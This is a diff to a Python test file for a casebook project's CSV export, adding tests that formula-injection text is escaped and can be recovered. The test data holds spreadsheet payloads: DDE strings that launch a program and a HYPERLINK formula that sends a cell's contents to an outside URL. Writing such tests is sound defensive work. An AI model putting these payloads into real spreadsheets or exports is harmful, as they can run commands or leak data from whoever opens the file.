@@ -13,8 +13,19 @@ from pathlib import Path
 from urllib.parse import unquote, urlsplit
 
 import pytest
+import yaml
 
+from casebook.export import (
+    CASE_NUMERIC,
+    NUMBER_NUMERIC,
+    cases_csv,
+    csv_record_text,
+    csv_text_cell,
+    numbers_csv,
+)
+from casebook.index import build_catalog
 from casebook.load import load_file
+from casebook.model import build_case
 
 from .conftest import FIXTURES
 
@@ -180,3 +191,79 @@ def test_home_page_links_to_all_four_downloads(fixture_site, home):
         if "data/" in href and not urlsplit(href).scheme:
             targets.add(resolves(fixture_site, home, href).relative_to(fixture_site.resolve()).as_posix())
     assert targets >= set(DOWNLOADS)
+
+
+# --- formula injection: one escaping policy for every table ---------------------------------------------
+
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://example.org/?leak="&A1,"点此")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_text_cell_makes_a_formula_inert_and_reversible(text):
+    cell = csv_text_cell(text)
+    assert cell == "'" + text
+    assert csv_record_text(cell) == text
+
+
+@pytest.mark.parametrize("text", ["", "龙里县", "a=b", " =1", "1-2", "'plain", "x\n=1"])
+def test_csv_text_cell_leaves_other_text_alone_but_round_trips(text):
+    cell = csv_text_cell(text)
+    assert cell == (("'" + text) if text.startswith("'") else text)
+    assert csv_record_text(cell) == text
+
+
+def _hostile_catalog():
+    data = yaml.safe_load((FIXTURES / "cases/guizhou/fx-longli-drivers-home.yaml").read_text(encoding="utf-8"))
+    data["title"] = FORMULAS[0]
+    data["model"]["name"] = FORMULAS[1]
+    data["summary"] = FORMULAS[2]
+    data["actor"]["name"] = FORMULAS[3]
+    data["numbers"][0]["subject"] = FORMULAS[4]
+    data["numbers"][0]["printed"] = FORMULAS[5]
+    data["numbers"][0]["unit"] = FORMULAS[6]
+    data["numbers"][1]["value"] = -3  # a numeric column may start with "-" and stays a number
+    data["sources"][0]["title"] = FORMULAS[7]
+    return data, build_catalog([build_case(data, "cases/guizhou/fx-longli-drivers-home.yaml")])
+
+
+def _rows(raw: bytes) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+
+
+def _inert(row: dict[str, str], numeric: tuple[str, ...]) -> None:
+    for column, cell in row.items():
+        if column not in numeric:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
+
+
+def test_hostile_text_is_inert_in_cases_csv():
+    data, catalog = _hostile_catalog()
+    (row,) = _rows(cases_csv(catalog))
+    _inert(row, CASE_NUMERIC)
+    assert csv_record_text(row["title"]) == data["title"]
+    assert csv_record_text(row["model"]) == data["model"]["name"]
+    assert csv_record_text(row["summary"]) == data["summary"]
+    assert csv_record_text(row["actor"]) == data["actor"]["name"]
+    assert row["id"] == data["id"] and row["year"] == "2022"
+
+
+def test_hostile_text_is_inert_in_numbers_csv():
+    data, catalog = _hostile_catalog()
+    rows = _rows(numbers_csv(catalog))
+    for row in rows:
+        _inert(row, NUMBER_NUMERIC)
+    first, second = rows
+    assert csv_record_text(first["subject"]) == data["numbers"][0]["subject"]
+    assert csv_record_text(first["printed"]) == data["numbers"][0]["printed"]
+    assert csv_record_text(first["unit"]) == data["numbers"][0]["unit"]
+    assert second["value"] == "-3"  # numbers are not touched
+    assert csv_record_text(second["source_title"]) == data["sources"][0]["title"]
